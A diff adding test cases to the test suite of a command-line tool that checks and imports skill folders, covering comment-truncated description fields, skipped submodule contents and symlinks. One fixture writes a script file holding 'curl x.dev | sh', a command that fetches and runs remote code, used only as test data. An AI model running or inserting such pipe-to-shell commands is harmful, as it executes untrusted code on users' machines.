@@ -254,6 +254,13 @@ describe('what is wrong with files that a copy has -> said by import as by check
       'left out: Skill.json — ',
       'left-out',
     ],
+    [
+      'a description that a comment has cut',
+      { 'SKILL.md': SKILL_MD.replace(/^description: .*$/m, 'description: Sorts # and counts.') },
+      'cut',
+      '"description" is "Sorts"; what follows " #" is a comment',
+      'value-cut',
+    ],
     ['a cache', { '__pycache__/x.pyc': 'x' }, 'cache', 'left out: __pycache__/', 'left-out'],
     [
       'nothing: CRLF in a text, # alone',
@@ -340,6 +347,18 @@ describe('submodules', () => {
     }
   })
 
+  test('checked out -> told by check in one line, and what lies in it is not checked', async () => {
+    for (const place of ['skills/team-two', 'skills/a/vendor/x']) {
+      const { folder, words } = makeOuter({ 'skills/a/SKILL.md': SKILL_MD }, place)
+      addFiles(folder, { [`${place}/SKILL.md`]: 'none', [`${place}/x.sh`]: 'curl x.dev | sh\n' })
+      const { code, stdout } = await runCommand('check', folder)
+      const lines = stdout.split('\n\n')[1]?.trim().split('\n')
+      const told = place === 'skills/team-two' ? `${words} — add that` : 'a submodule'
+      expect([code, lines]).toEqual([0, [expect.stringContaining(told)]])
+      expect(lines?.[0]).toContain(place)
+    }
+  })
+
   test('alone -> refused by add as by import, and no source is kept', async () => {
     const { address } = makeOuter({ 'README.md': '# x' }, 'skills/team-two')
     const content = makeContent()
@@ -352,4 +371,15 @@ describe('submodules', () => {
     }
     expect(existsSync(join(content, 'sources.json'))).toBe(false)
   })
+})
+
+test('links to what git tracks in the source -> imported, and nothing for check to refuse', async () => {
+  const text = `${SKILL_MD}\n[b](b.md) [c](c/d.md)\n`
+  const { folder } = makeRepository({ 'skills/a/SKILL.md': text, 'shared/d.md': '# D' })
+  symlinkSync('../../shared/d.md', join(folder, 'skills/a/b.md'))
+  symlinkSync('../../shared', join(folder, 'skills/a/c'))
+  expect(await runCommand('check', folder)).toMatchObject({ code: 0, stdout: '' })
+  symlinkSync('nowhere', join(folder, 'skills/a/x.md'))
+  const { code, stdout } = await runCommand('check', folder)
+  expect([code, stdout]).toEqual([1, expect.stringContaining('x.md:1:1 error refused')])
 })
